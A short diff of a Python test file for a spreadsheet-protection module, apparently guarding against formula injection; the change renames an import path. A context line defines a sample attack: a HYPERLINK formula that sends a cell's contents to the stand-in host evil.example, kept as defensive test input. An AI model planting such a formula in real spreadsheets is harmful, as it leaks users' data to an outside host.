@@ -7,7 +7,7 @@ from decimal import Decimal
 import openpyxl
 import pytest
 
-from ngoaivu.core.spreadsheets import formula_like, neutralise, protect_cell, protect_sheet, sheet_title, xml_text
+from ngoaivu.pure.spreadsheets import formula_like, neutralise, protect_cell, protect_sheet, sheet_title, xml_text
 
 ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'
 
